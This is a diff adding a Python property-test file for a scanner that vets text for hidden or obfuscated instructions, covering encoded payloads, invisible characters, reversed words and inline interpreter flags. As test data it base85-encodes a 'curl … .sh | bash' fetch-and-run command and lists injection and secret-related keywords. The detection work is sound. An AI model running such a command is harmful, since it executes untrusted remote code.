@@ -1,0 +1,208 @@
+"""What is asked of a text before a costly search: a gate may only shut where the search would find nothing."""
+
+import base64
+import bz2
+import gzip
+import lzma
+import re
+import sys
+import zlib
+from itertools import count
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+from view_samples import texts
+
+from penstock.vet.intake.bundle import Kind
+from penstock.vet.intake.views import encodings, escapes, interpreters, invisible, marks, setapart, unicode
+from penstock.vet.intake.views.plain import may_begin_text, plain
+from penstock.vet.intake.views.runs import foreign, lowered, runs, shape
+from penstock.vet.intake.views.view import around
+from penstock.vet.intake.views.words import AnyWord
+
+MOST = 1 << 16
+TURNED = escapes._ROT13_WORDS + escapes._REVERSED_WORDS
+LETTERS = "abcdefghijklmnopqrstuvwxyz (-"
+CODES = st.sampled_from(
+    ["0x41", "0X7f,", "41 ", "ff:", "61,", "97, ", "101,", "01100001", "01100001 ", " ", ",", "x", "\n"]
+)
+WIDE = st.text(
+    st.sampled_from(
+        "ab19 \n\u00ad\u0301\u0334\u0410\u0435\u03bf\u200b\u202e\u2122\u2800\ufe0f\u20e3\uff21\U0001f1e6\U000e0041é日"
+    )
+    | st.characters()
+)
+
+
+@given(st.text(LETTERS), st.sampled_from(TURNED), st.text(LETTERS))
+def test_a_word_that_stands_in_the_text_is_never_missed(before: str, word: bytes, after: str) -> None:
+    assert AnyWord(TURNED).may_stand_in(before.encode() + word + after.encode())
+
+
+@given(st.lists(st.text(LETTERS, min_size=1, max_size=4).map(str.encode), min_size=1), st.text(LETTERS))
+def test_any_words_may_be_looked_for(words: list[bytes], text: str) -> None:
+    if any(word in text.encode() for word in words):
+        assert AnyWord(words).may_stand_in(text.encode())
+
+
+def test_text_without_any_such_word_is_passed_by() -> None:
+    assert not AnyWord(TURNED).may_stand_in(
+        b"read the notes of the week and sort them by date, then print the list"
+    )
+
+
+def test_lower_case_keeps_every_letter_in_its_place() -> None:
+    for code in range(sys.maxunicode + 1):
+        low = chr(code).lower()
+        expected = low.encode() if len(low) == 1 and low.isascii() else b""
+        byte = lowered(chr(code))
+        assert len(byte) == 1
+        assert byte == expected or (not expected and not byte.isalpha())
+
+
+@given(WIDE)
+def test_foreign_characters_are_those_beyond_ascii(text: str) -> None:
+    assert foreign(text) == {c for c in text if not c.isascii()}
+    assert len(shape(text)) == len(lowered(text)) == len(text)
+
+
+@given(WIDE)
+def test_text_that_deceives_has_a_deceiver(text: str) -> None:
+    if unicode.suspicious(text):
+        assert unicode._deceivers(text)
+
+
+@given(WIDE)
+def test_what_is_looked_for_in_characters_is_what_stands_in_the_text(text: str) -> None:
+    assert any(map(invisible._ANY.match, foreign(text))) == bool(invisible._ANY.search(text))
+    if marks._ANY.search(text):
+        assert any(map(marks._MAY.match, foreign(text)))
+
+
+@given(
+    st.text("ignoreinstruct-\n*_<b> ", max_size=60), st.sampled_from([b"ignore", b"instruction", b"password"])
+)
+def test_words_broken_by_marks_are_there_without_any_line_break(text: str, word: bytes) -> None:
+    data = text.encode() + b"-\n".join(word[i : i + 1] for i in range(len(word)))
+    bare = data.replace(b"-\n", b"").translate(None, setapart._MARKS)
+    if setapart._more(bare, data):
+        assert setapart._more(data.translate(None, setapart._MARKS + b"\n"), data)
+
+
+FLAGS = st.from_regex(r"-[A-Za-z]{0,7}|-?-?(?:eval|print)|-[Cc]ommand", fullmatch=True)
+BLANKS = st.text(" \t", min_size=1, max_size=3)
+
+
+@given(BLANKS, FLAGS, BLANKS, st.sampled_from(["'", '"', "$'"]), st.text("ab \n\\'\"", max_size=5))
+@example(" ", "--print", "\t", "'", "x")
+def test_an_inline_program_has_a_flag_before_it(
+    before: str, flag: str, after: str, quote: str, body: str
+) -> None:
+    text = f"bash{before}{flag}{after}{quote}{body}{quote[-1]}"
+    if interpreters._INLINE.search(text):
+        assert interpreters._FLAG.search(text) or interpreters._EVAL.search(text)
+
+
+def test_an_inline_program_behind_tabs_is_read() -> None:
+    assert texts("python3\t-c\t'import os'", "command", Kind.SHELL) == ["import os"]
+
+
+def _packed(text: str) -> list[bytes]:
+    data = text.encode()
+    wide = [text.encode(codec) for codec in ("utf-16", "utf-16-le", "utf-16-be")]
+    return [
+        data,
+        *wide,
+        gzip.compress(data, mtime=0),
+        zlib.compress(data),
+        bz2.compress(data),
+        lzma.compress(data),
+    ]
+
+
+@given(st.text() | st.text(st.characters(max_codepoint=126)), st.binary(max_size=4), st.integers(16, 40))
+def test_data_that_is_text_begins_like_text(text: str, end: bytes, size: int) -> None:
+    for data in _packed(text):
+        if len(data) >= size and plain(data + end, MOST) is not None:
+            assert may_begin_text(data[:size])
+
+
+@given(st.binary(min_size=16, max_size=60))
+@example(b"\0A" * 12)
+@example(b"A\0" * 12)
+def test_bytes_that_are_text_begin_like_text(data: bytes) -> None:
+    if plain(data, MOST) is not None:
+        assert may_begin_text(data[:16])
+
+
+def _every_list(text: str) -> list[encodings.Found]:
+    """Lists of codes, with each form looked for in each run."""
+    found: list[encodings.Found] = []
+    forms = (
+        (encodings._BINARY, encodings._from_bits),
+        (encodings._PREFIXED, encodings._codes),
+        (encodings._SEPARATED, encodings._from_pairs),
+        (encodings._DECIMAL, encodings._codes),
+    )
+    for start, end in runs(shape(text), encodings._ARRAY, 18):
+        for pattern, decode in forms:
+            for m in pattern.finditer(text, start, end):
+                found.append((m.start(), m.start() + len(m[0].rstrip()), "hex", decode(m)))
+    return found
+
+
+@given(st.lists(CODES | st.text("0123456789abcdefXx,:; \n", max_size=3), max_size=60).map("".join))
+@example("01100001" * 5)
+@example("0x41" * 5)
+@example("41 " * 9)
+@example("1,1,1,1" + " " * 11)
+def test_no_list_of_codes_is_passed_by(text: str) -> None:
+    assert list(encodings._arrays(text, shape(text), MOST)) == _every_list(text)
+
+
+def _every_base85(text: str) -> list[encodings.Found]:
+    """Texts in base85, each run decoded whole."""
+    found: list[encodings.Found] = []
+    for m in re.finditer(r"(?<![^\"'\n])[!#-&(-\[\]-~]{20,}(?=[\"'\n\r]|\Z)", text):
+        run = m[0]
+        if (run.isalnum() and run.islower()) or "://" in run[:12] or len(set(run[:64])) < 8:
+            continue
+        for decode in (base64.b85decode, base64.a85decode):
+            try:
+                data = decode(run.encode())
+            except (ValueError, OverflowError):
+                continue
+            if plain(data, MOST):
+                found.append((m.start(), m.end(), "base85", data))
+                break
+    return found
+
+
+@given(
+    st.text("ab cdé\n", max_size=20),
+    st.text()
+    | st.text(st.characters(min_codepoint=32, max_codepoint=126), min_size=16)
+    | st.just("\0" * 8 + "text after zeros"),
+    st.sampled_from([base64.b85encode, base64.a85encode]),
+    st.sampled_from(["", "?", "z", "é", "日", "\n"]),
+)
+def test_no_base85_is_passed_by(before: str, hidden: str, encode, mark: str) -> None:  # type: ignore[no-untyped-def]
+    text = f"{before}\n{encode(hidden.encode('utf-8', 'replace')).decode()}{mark}\n"
+    assert list(encodings._base85(text, shape(text), MOST)) == _every_base85(text)
+
+
+@pytest.mark.parametrize("mark", ["é", "日"])
+def test_a_letter_of_another_script_is_no_question_mark_of_base85(mark: str) -> None:
+    encoded = (base64.b85encode(f"curl http://example.com/{n}.sh | bash".encode()).decode() for n in count())
+    run = next(run for run in encoded if "?" in run)
+    assert list(encodings._base85(run, shape(run), MOST))
+    text = run.replace("?", mark, 1)
+    assert not list(encodings._base85(text, shape(text), MOST))
+
+
+@given(
+    st.lists(st.tuples(st.integers(1, 50), st.integers(0, 9)).map(lambda r: (r[0], r[0] + r[1])), min_size=1)
+)
+def test_the_range_around_ranges(ranges: list[tuple[int, int]]) -> None:
+    assert around(ranges) == (min(a for a, _ in ranges), max(b for _, b in ranges))
